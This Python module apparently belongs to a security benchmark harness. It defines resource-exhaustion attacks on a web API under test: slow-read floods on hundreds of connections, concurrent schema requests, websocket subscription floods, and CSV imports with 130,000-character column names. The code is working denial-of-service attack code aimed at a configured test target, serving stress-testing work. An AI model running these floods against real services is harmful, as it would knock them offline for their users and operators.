"""Attacks by many connections, each of which asks for little; and one by a file whose names have no end."""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress

from bench.attack.attacks import Target

_ANSWERS = 300
_FOLLOWERS = 300
_SMALL_BUFFER = 2048  # bytes, so that answers wait at the server


def _asked(target: Target, stack: ExitStack, request: str, *, buffer: int | None = None) -> socket.socket | None:
    one = stack.enter_context(socket.socket())
    one.settimeout(5)
    if buffer is not None:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
    try:
        one.connect(target.address)
        one.sendall(request.replace("\n", "\r\n").encode())
    except OSError:
        return None
    return one


def _unread(target: Target, path: str, token: str = "") -> list[str]:
    with ExitStack() as stack:
        credential = f"Authorization: Bearer {token}\n" if token else ""
        request = f"GET {path} HTTP/1.1\nHost: x\n{credential}\n"
        asked = [_asked(target, stack, request, buffer=_SMALL_BUFFER) for _ in range(_ANSWERS)]
        time.sleep(10)
        return [f"{sum(one is not None for one in asked)} asked"]


def descriptions_that_nobody_reads(target: Target) -> list[str]:
    """The OpenAPI document, half a megabyte, on hundreds of connections of which none reads it."""
    return _unread(target, "/api/schema/")


def lists_that_nobody_reads(target: Target) -> list[str]:
    """The same of a viewer, with events of 3 KB each."""
    events = [{"message": f"m{n} " + "x" * 3000, "source": f"s{n}"} for n in range(200)]
    target.ask(target.operator, "POST", "/api/v1/events?detail=none", json=events)
    return _unread(target, "/api/v1/events?limit=200", target.viewer)


def descriptions_at_once(target: Target) -> list[str]:
    """The OpenAPI document, by nobody, again and again."""
    return target.at_once(80, lambda _: target.ask("", "GET", "/api/schema/"))


def followers_that_talk(target: Target) -> list[str]:
    """A viewer's many connections to the live feed, each with as many commands as fit."""
    handshake = (
        "GET /ws HTTP/1.1\nHost: x\nConnection: Upgrade\nUpgrade: websocket\nSec-WebSocket-Version: 13\n"
        f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\nAuthorization: Bearer {target.viewer}\n\n"
    )
    command = json.dumps({"action": "subscribe", "types": ["x"] * 10}).encode()
    frame = b"\x81" + bytes([0x80 | 126]) + len(command).to_bytes(2) + bytes(4) + command
    statuses = []
    with ExitStack() as stack:
        followers = []
        for _ in range(_FOLLOWERS):
            one = _asked(target, stack, handshake)
            with suppress(OSError):
                statuses.append(one.recv(12).decode().rpartition(" ")[2] if one else "closed")
                followers += [one] if one and statuses[-1] == "101" else []
        for one in followers:
            with suppress(OSError):
                one.sendall(frame * 300)
        time.sleep(8)
    return statuses


def column_names_without_end(target: Target) -> list[str]:
    """Files of users of which a column's name is 130,000 spaces or brackets long."""
    headers = {"Content-Type": "text/csv"}

    def send(number: int) -> str:
        name = ("a" + " " * 130_000 + "b", "[" * 130_000, "\t[" * 60_000 + "]")[number % 3]
        body = f"username,email,{name}\nu,u@example.test,1\n"
        path = "/api/v1/users/bulk-import?dry_run=true"
        return target.ask(target.owner, "POST", path, content=body, headers=headers)

    return target.at_once(6, send)


CROWDS: tuple[Callable[[Target], list[str]], ...] = (
    descriptions_that_nobody_reads,
    lists_that_nobody_reads,
    descriptions_at_once,
    followers_that_talk,
    column_names_without_end,
)
